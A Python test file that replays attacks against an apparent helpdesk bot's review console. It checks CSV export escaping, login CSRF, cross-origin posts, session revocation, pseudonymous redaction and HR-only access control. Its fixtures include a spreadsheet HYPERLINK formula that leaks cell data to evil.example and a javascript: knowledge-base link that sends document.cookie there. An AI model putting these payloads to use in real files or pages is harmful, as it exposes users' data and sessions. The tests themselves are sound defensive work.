"""Attacks on the review console, replayed over real HTTP against a running server: a CSV that
runs formulas, cookies and forms that outlive or bypass sign-in, pages that name people in
pseudonymous mode or show leads what their groups do not allow, and a knowledge-base link that
runs script."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any

import aiohttp

from bot.console.auth import issue_token
from tests.support.console import ADMIN, EMPLOYEE, LEAD, console_settings, csrf_of, login_form, sign_in, signed_in
from tests.support.server import RunningServer, ServerFactory, running_server
from tests.support.turns import ask_as

ANA = "ana.ribeiro@northwind.example"  # HR, in the example directory
IT_ADMIN = ADMIN  # Sofia Martins, IT & Security: groups [it-admin], not hr
HR_QUESTION = "What is the salary band for a senior engineer in Lisbon?"
# In the HR-only passage and in the answer that quotes it; nowhere else in the knowledge base.
SALARY_FIGURES = "24,000 - 32,000"
HR_TITLE = "Salary bands and compensation review"
HR_DOC = "salary-bands-compensation-review"
MARKER = "restricted to hr: you are not in that group"
EVIL = "https://evil.example"


def jar() -> aiohttp.CookieJar:
    return aiohttp.CookieJar(unsafe=True)  # the server is on 127.0.0.1


async def ask(server: RunningServer, user: str, question: str, platform: str = "slack") -> str:
    """A question through the real orchestrator, as the platform adapters ask it; the turn id."""
    deskmate: Any = server.deskmate
    answer = await ask_as(
        deskmate.orchestrator, deskmate.retrieval.store, user, question, platform=platform, channel="C1"
    )
    return answer.turn_id


async def get(http: aiohttp.ClientSession, url: str, **kwargs: Any) -> tuple[int, str]:
    async with http.get(url, allow_redirects=False, **kwargs) as r:
        return r.status, await r.text()


def session_cookie(http: aiohttp.ClientSession) -> str:
    return next(c for c in http.cookie_jar if c.key == "deskmate_console").value


# --- 4. CSV export formulas ------------------------------------------------------------------


async def test_the_csv_export_hands_a_spreadsheet_no_formula_and_jsonl_stays_exact(
    console_server: RunningServer,
) -> None:
    server = console_server
    question = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the VPN guide")'
    turn_id = await ask(server, EMPLOYEE, question)
    await server.deskmate.ledger.record_feedback(
        turn_id,
        LEAD,
        platform="console",
        rater_role="lead",
        score=2,
        verdict="incomplete",
        correction="+1 555 0100 is the service desk; call it.",
        note="@SUM(1,1) looks odd",
    )
    lead = await signed_in(server, LEAD)
    async with lead:
        status, csv_text = await get(lead, f"{server.url}/console/export.csv")
        assert status == 200
        status, jsonl = await get(lead, f"{server.url}/console/export.jsonl")
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    [row] = [r for r in rows if r["turn_id"] == turn_id]
    assert row["question"] == "'" + question  # shown as the text it is, never run
    assert row["correction"].startswith("'+1 555")
    cells = [cell for r in rows for cell in r.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], "a cell a spreadsheet would run"
    [record] = [json.loads(line) for line in jsonl.splitlines() if turn_id in line]
    assert record["question"] == question and record["correction"].startswith("+1 555")


# --- 5. sessions: Secure behind a proxy, login CSRF, cross-site posts, sign-out, reuse -------


async def sign_in_by_hand(
    http: aiohttp.ClientSession, url: str, token: str, headers: dict[str, str]
) -> tuple[int, SimpleCookie, SimpleCookie]:
    """Sign in with explicit Cookie headers (no jar: it would hold back Secure cookies over
    plain HTTP); returns the status and the cookies the page and the sign-in set."""
    async with http.get(f"{url}/console/login", headers=headers) as r:
        page = await r.text()
        page_cookies = SimpleCookie()
        for header in r.headers.getall("Set-Cookie", []):
            page_cookies.load(header)
    csrf = csrf_of(page) if 'name="csrf"' in page else ""
    cookie = "; ".join(f"{k}={m.value}" for k, m in page_cookies.items())
    async with http.post(
        f"{url}/console/login",
        data={"token": token, "csrf": csrf},
        headers={**headers, **({"Cookie": cookie} if cookie else {})},
        allow_redirects=False,
    ) as r:
        signed = SimpleCookie()
        for header in r.headers.getall("Set-Cookie", []):
            signed.load(header)
        return r.status, page_cookies, signed


async def test_behind_a_tls_proxy_the_cookies_are_secure_and_a_client_cannot_claim_it(
    tmp_path: Path, example_store_url: str, embedder: Any, redis_prefix: str
) -> None:
    proxied = {
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Host": "deskmate.northwind.example",
        "X-Forwarded-For": "203.0.113.7",
    }
    for trusted in (True, False):
        settings = console_settings(
            tmp_path / f"trusted-{trusted}",
            example_store_url,
            redis_prefix,
            trust_forwarded_headers=trusted,
        )
        async with (
            running_server(embedder, **settings) as server,
            aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http,
        ):
            token = await issue_token(server.deskmate.ledger, LEAD)
            status, page_cookies, signed = await sign_in_by_hand(http, server.url, token, proxied)
            assert status == 302
            session = signed["deskmate_console"]
            assert session["httponly"] and session["samesite"] == "Strict"
            # Behind the ingress the browser spoke HTTPS: both cookies must say so. Without the
            # setting, the same header from a client is not believed.
            assert bool(session["secure"]) is trusted, f"trust_forwarded_headers={trusted}"
            assert bool(page_cookies["deskmate_login"]["secure"]) is trusted


async def test_sign_in_takes_only_the_form_the_console_gave_out(
    console_server: RunningServer,
) -> None:
    """Login CSRF: a page elsewhere posting the attacker's own token would sign the victim in as
    the attacker (whose queue they would then review, and whose notes they would read)."""
    url = console_server.url
    token = await issue_token(console_server.deskmate.ledger, LEAD)
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        async with http.post(f"{url}/console/login", data={"token": token}, allow_redirects=False) as r:
            assert r.status == 403 and "expired" in await r.text()
            assert "deskmate_console" not in r.cookies
        await login_form(http, url)  # the pre-session cookie, but a form value of the attacker's
        async with http.post(
            f"{url}/console/login", data={"token": token, "csrf": "0" * 64}, allow_redirects=False
        ) as r:
            assert r.status == 403
        r = await sign_in(http, url, token, Origin=EVIL)  # the right form, sent from elsewhere
        assert r.status == 403
        # None of that spent the token: the real form signs in with it, once.
        assert (await sign_in(http, url, token)).status == 302
        status, _ = await get(http, f"{url}/console/queue")
        assert status == 200


async def test_console_posts_from_another_site_are_refused(console_server: RunningServer) -> None:
    url, turn_id = console_server.url, console_server.turn_ids[0]
    lead = await signed_in(console_server, LEAD)
    async with lead:
        _, page = await get(lead, f"{url}/console/turns/{turn_id}")
        form = {"csrf": csrf_of(page), "score": "1", "verdict": "wrong", "then": "stay"}
        for origin in (EVIL, "null", "http://127.0.0.1.evil.example"):
            async with lead.post(f"{url}/console/turns/{turn_id}/rate", data=form, headers={"Origin": origin}) as r:
                assert r.status == 403 and "another site" in await r.text(), origin
        assert await console_server.deskmate.ledger.ratings_of(turn_id) == []
        async with lead.post(
            f"{url}/console/logout",
            data={"csrf": form["csrf"]},
            headers={"Origin": EVIL},
            allow_redirects=False,
        ) as r:
            assert r.status == 403
        assert (await get(lead, f"{url}/console/queue"))[0] == 200  # still signed in
        async with lead.post(
            f"{url}/console/turns/{turn_id}/rate", data=form, headers={"Origin": url}
        ) as r:  # the console's own page
            assert r.status == 200 and "Saved." in await r.text()


async def test_sign_out_needs_its_form_and_ends_the_session_for_every_copy_of_the_cookie(
    console_server: RunningServer,
) -> None:
    url = console_server.url
    lead = await signed_in(console_server, LEAD)
    copied = {"Cookie": f"deskmate_console={session_cookie(lead)}"}
    async with lead, aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as thief:
        assert (await get(thief, f"{url}/console/queue", headers=copied))[0] == 200
        # A page elsewhere cannot sign you out: it does not have the form's token.
        async with lead.post(f"{url}/console/logout", allow_redirects=False) as r:
            assert r.status == 403
        status, page = await get(lead, f"{url}/console/queue")
        assert status == 200
        async with lead.post(f"{url}/console/logout", data={"csrf": csrf_of(page)}, allow_redirects=False) as r:
            assert r.status == 302 and r.headers["Location"] == "/console/login"
        # The copy made before sign-out is refused now, on the same server and without the jar.
        status, _ = await get(thief, f"{url}/console/queue", headers=copied)
        assert status == 302
        status, _ = await get(thief, f"{url}/console/export.jsonl", headers=copied)
        assert status == 302


async def test_a_spent_token_never_signs_in_again_even_when_raced(
    console_server: RunningServer,
) -> None:
    url = console_server.url
    token = await issue_token(console_server.deskmate.ledger, LEAD)

    async def attempt() -> int:
        async with aiohttp.ClientSession(cookie_jar=jar()) as http:
            return (await sign_in(http, url, token)).status

    statuses = await asyncio.gather(*(attempt() for _ in range(8)))
    assert sorted(statuses) == [302] + [401] * 7, statuses
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        assert (await sign_in(http, url, token)).status == 401


async def test_forget_ends_the_persons_console_sessions(private_store_url: str, serve_console: ServerFactory) -> None:
    from bot.feedback.forget import forget

    async with serve_console(store_url=private_store_url) as server:
        lead = await signed_in(server, LEAD)
        copied = {"Cookie": f"deskmate_console={session_cookie(lead)}"}
        await lead.close()
        async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
            assert (await get(http, f"{server.url}/console/queue", headers=copied))[0] == 200
            await forget(server.deskmate, LEAD)
            status, _ = await get(http, f"{server.url}/console/queue", headers=copied)
            assert status == 302, "a forgotten person's session still opens the console"


# --- 11. pseudonymous mode names nobody -------------------------------------------------------


async def test_pseudonymous_pages_and_exports_never_name_the_asker(serve_console: ServerFactory) -> None:
    # A written answer: its prompt holds the facts that name her, which the pages must hide.
    async with serve_console(console_pseudonymous=True, answer_strategy="generate") as server:
        answered = await ask(server, ANA, "I'm Ana Ribeiro: how do I report a phishing email?")
        unknown = await ask(server, ANA, "Ana Ribeiro here: what is the airspeed velocity of an unladen swallow?")
        turn = await server.deskmate.ledger.get_turn(answered)
        assert "Ana Ribeiro" in json.dumps(turn.prompt)  # the facts block names her as served
        assert (await server.deskmate.ledger.get_turn(unknown)).status == "unknown"
        await server.deskmate.ledger.record_feedback(
            answered,
            LEAD,
            platform="console",
            rater_role="lead",
            score=3,
            correction="Ana, use Report Phish in Outlook.",
            note="told ana.ribeiro@northwind.example",
        )
        lead = await signed_in(server, LEAD)
        pages = {}
        async with lead:
            for path in (
                f"/console/turns/{answered}",
                f"/console/turns/{unknown}",
                "/console/queue",
                "/console/dashboard",
                "/console/export.jsonl",
                "/console/export.csv",
            ):
                status, pages[path] = await get(lead, server.url + path)
                assert status == 200, path
    for path, body in pages.items():
        assert "ribeiro" not in body.lower(), f"{path} names the asker"
        assert not re.search(r"\bAna\b", body), f"{path} names the asker"
    turn_page = pages[f"/console/turns/{answered}"]
    assert "how do I report a phishing email?" in turn_page and "Report Phish" in turn_page
    assert "facts about the person asking are not shown" in turn_page
    for fact in turn.user_facts:  # what the facts say about her is hidden too, not only her name
        assert fact.replace("Ana Ribeiro", "").strip(" .(") not in turn_page, fact
    assert "unladen swallow" in pages["/console/dashboard"]


# --- 12. leads read only what their groups allow ----------------------------------------------


async def test_a_lead_outside_hr_sees_a_marker_instead_of_an_hr_only_answer(serve_console: ServerFactory) -> None:
    async with serve_console(answer_strategy="generate") as server:
        turn_id = await ask(server, ANA, HR_QUESTION)
        turn = await server.deskmate.ledger.get_turn(turn_id)
        assert {tuple(c["groups"]) for c in turn.retrieved} == {("hr",)}
        assert SALARY_FIGURES in json.dumps(turn.prompt) and turn.answer
        await server.deskmate.ledger.record_feedback(
            turn_id,
            LEAD,
            platform="console",
            rater_role="lead",
            score=4,
            correction="Band L4 in Lisbon is 50,000 - 66,000 EUR a year.",
            note="checked the L4 row",
        )
        url = server.url
        it_admin = await signed_in(server, IT_ADMIN)  # an admin, and not in console_see_all
        hr_lead = await signed_in(server, LEAD)  # in hr
        async with it_admin, hr_lead:
            status, page = await get(it_admin, f"{url}/console/turns/{turn_id}")
            assert status == 200 and MARKER in page and HR_QUESTION in page
            for secret in (
                SALARY_FIGURES,
                turn.answer[:40],
                HR_TITLE,
                HR_DOC,
                "50,000 - 66,000",
                "checked the L4 row",
            ):
                assert secret not in page, secret
            assert 'id="review"' not in page and "You cannot review this answer" in page
            async with it_admin.post(
                f"{url}/console/turns/{turn_id}/rate",
                data={"csrf": csrf_of(page), "score": "5", "then": "stay"},
            ) as r:
                assert r.status == 403  # no rating it blind
            assert len(await server.deskmate.ledger.ratings_of(turn_id)) == 1

            status, queue = await get(it_admin, f"{url}/console/queue")
            assert HR_QUESTION in queue and "restricted: hr" in queue
            # The queue's search must not be an oracle for the hidden answer's words.
            _, searched = await get(it_admin, f"{url}/console/queue", params={"q": turn.answer[:30]})
            assert turn_id not in searched
            _, exported = await get(it_admin, f"{url}/console/export.jsonl")
            [record] = [json.loads(line) for line in exported.splitlines() if turn_id in line]
            assert record["redacted"] == ["hr"] and MARKER in record["answer"]
            # Nor the export's: a search for the hidden answer's words finds nothing.
            _, probed = await get(it_admin, f"{url}/console/export.jsonl", params={"q": turn.answer[:30]})
            assert turn_id not in probed
            _, exported_csv = await get(it_admin, f"{url}/console/export.csv")
            for secret in (SALARY_FIGURES, HR_DOC, "50,000 - 66,000"):
                assert secret not in exported and secret not in exported_csv, secret

            status, page = await get(hr_lead, f"{url}/console/turns/{turn_id}")
            assert SALARY_FIGURES in page and MARKER not in page and 'id="review"' in page

    # The same person, listed by the operator as someone who may read everything.
    async with serve_console(console_see_all=[IT_ADMIN]) as server:
        it_admin = await signed_in(server, IT_ADMIN)
        async with it_admin:
            status, page = await get(it_admin, f"{server.url}/console/turns/{turn_id}")
            assert status == 200 and SALARY_FIGURES in page and "50,000 - 66,000" in page
            assert MARKER not in page and 'id="review"' in page


# --- also: a knowledge-base link is a link only when it is http(s) -----------------------------


async def test_a_javascript_url_from_the_knowledge_base_is_never_a_live_link(
    tmp_path: Path, embedder: Any, serve_console: ServerFactory
) -> None:
    from retrieval.backends import open_store
    from retrieval.ingest import Ingestor

    kb = tmp_path / "kb" / "it"
    kb.mkdir(parents=True)
    (kb / "printer-jam.md").write_text(
        "---\ntitle: Clearing a printer jam\nurl: \"javascript:fetch('//evil.example/?c='+document.cookie)\"\n"
        "groups: []\n---\n\n# Clearing a printer jam\n\nOpen the front tray of the printer, pull the "
        "jammed paper out slowly with both hands, close the tray and print again.\n"
    )
    (kb / "printer-toner.md").write_text(
        "---\ntitle: Replacing printer toner\nurl: https://intranet.northwind.example/help/toner\n"
        "groups: []\n---\n\n# Replacing printer toner\n\nWhen the printer says toner low, take a new "
        "cartridge from the supply cupboard and swap it in; the old one goes in the recycling box.\n"
    )
    store_url = f"lancedb://{tmp_path / 'store'}"
    store = await open_store(store_url, dim=embedder.dim)
    report = await Ingestor(store, embedder).ingest_path(tmp_path / "kb")
    assert report.ok, report.failed
    await store.close()
    async with serve_console(store_url=store_url) as server:
        turn_id = await ask(server, EMPLOYEE, "How do I clear a printer jam?")
        urls = {c["url"] for c in (await server.deskmate.ledger.get_turn(turn_id)).retrieved}
        assert any(u.startswith("javascript:") for u in urls), urls
        lead = await signed_in(server, LEAD)
        async with lead:
            status, page = await get(lead, f"{server.url}/console/turns/{turn_id}")
    assert status == 200 and "javascript:fetch(" in page  # shown, as text
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert not [h for h in hrefs if not h.startswith(("/", "http://", "https://"))], hrefs
    if "https://intranet.northwind.example/help/toner" in urls:
        assert "https://intranet.northwind.example/help/toner" in hrefs
